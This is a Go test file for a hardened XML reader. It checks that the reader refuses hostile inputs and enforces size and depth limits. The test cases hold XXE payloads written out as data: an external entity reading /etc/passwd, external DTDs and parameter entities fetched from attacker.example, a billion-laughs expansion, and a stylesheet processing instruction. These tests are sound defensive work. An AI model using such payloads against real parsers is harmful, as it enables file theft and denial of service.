package xmlsec

import (
	"errors"
	"strings"
	"testing"
)

// Attacks on the hardened reader every OSCI order and response and every
// decrypted content goes through (CheckXML / ReadDoc).
func TestSecurityXMLGuard(t *testing.T) {
	lim := Limits{MaxDepth: 10, MaxElements: 50, MaxAttrBytes: 64, MaxTextBytes: 128}
	deep := strings.Repeat("<a>", 11) + strings.Repeat("</a>", 11)
	for _, tc := range []struct {
		name, doc, want string
	}{
		{"XXE external entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
			"xml refused: DOCTYPE and entity declarations are not allowed"},
		{"billion laughs", `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`,
			"xml refused: DOCTYPE and entity declarations are not allowed"},
		{"external DTD", `<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>`,
			"xml refused: DOCTYPE and entity declarations are not allowed"},
		{"parameter entities", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>`,
			"xml refused: DOCTYPE and entity declarations are not allowed"},
		{"undeclared entity reference", `<r>&x;</r>`,
			"xml refused: XML syntax error on line 1: invalid character entity &x;"},
		{"processing instruction", `<?xml version="1.0"?><?xml-stylesheet href="http://attacker.example/x.xsl"?><r/>`,
			"xml refused: processing instruction <?xml-stylesheet?> is not allowed"},
		{"nesting beyond limits.xml.maxDepth", deep, "xml refused: nesting deeper than 10"},
		{"elements beyond limits.xml.maxElements", "<r>" + strings.Repeat("<e/>", 50) + "</r>", "xml refused: more than 50 elements"},
		{"attribute beyond limits.xml.maxAttrBytes", `<r a="` + strings.Repeat("x", 65) + `"/>`, "xml refused: attribute a longer than 64 bytes"},
		{"text beyond limits.xml.maxTextBytes", "<r>" + strings.Repeat("x", 129) + "</r>", "xml refused: text longer than 128 bytes"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := CheckXMLLimits([]byte(tc.doc), lim)
			if !errors.Is(err, ErrHostileXML) || err.Error() != tc.want {
				t.Fatalf("got %v\nwant %s", err, tc.want)
			}
		})
	}
	// At the limits is fine.
	ok := strings.Repeat("<a>", 10) + strings.Repeat("</a>", 10)
	if err := CheckXMLLimits([]byte(ok), lim); err != nil {
		t.Fatal(err)
	}
	if err := CheckXMLLimits([]byte(`<r a="`+strings.Repeat("x", 64)+`">`+strings.Repeat("y", 128)+`</r>`), lim); err != nil {
		t.Fatal(err)
	}
}

func TestSecuritySetLimits(t *testing.T) {
	defer SetLimits(DefaultLimits())
	SetLimits(Limits{MaxDepth: 3})
	if got := CurrentLimits(); got.MaxDepth != 3 || got.MaxElements != 200_000 || got.MaxTextBytes != 64<<20 {
		t.Fatalf("limits %+v", got)
	}
	_, err := ReadDoc([]byte("<a><b><c><d/></c></b></a>"))
	if err == nil || err.Error() != "xml refused: nesting deeper than 3" {
		t.Fatalf("ReadDoc: %v", err)
	}
}
